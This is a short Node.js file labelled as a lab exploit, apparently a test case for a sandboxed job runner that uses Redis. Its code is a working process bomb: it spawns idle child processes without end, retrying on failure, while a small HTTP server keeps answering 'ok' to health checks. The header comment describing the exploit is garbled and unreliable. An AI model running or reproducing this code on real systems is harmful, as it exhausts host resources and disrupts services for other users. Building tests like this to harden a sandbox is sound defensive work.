// exploit: takes every task that its run has while its Redis is stopped, so that it ends while it starts
// kind: lab
// steps: GET / | stop redis | GET / | start redis | GET / | stop redis | start redis | GET /
// outcome: finished exited out-of-memory cpu-timeout wall-timeout
// sees: "status":200
// job: {"services":["redis"],"listsKeys":true,"limits":{"wallMs":20000}}
const http = require('node:http')
const { spawn } = require('node:child_process')

const again = () => setTimeout(fill, 1)
function fill() {
  try {
    spawn(process.execPath, ['-e', 'setInterval(() => {}, 1e6)'], { stdio: 'ignore' }).on('error', again).on('spawn', fill)
  } catch {
    again()
  }
}
fill()
http.createServer((_req, res) => res.end('ok')).listen(process.env.PORT)
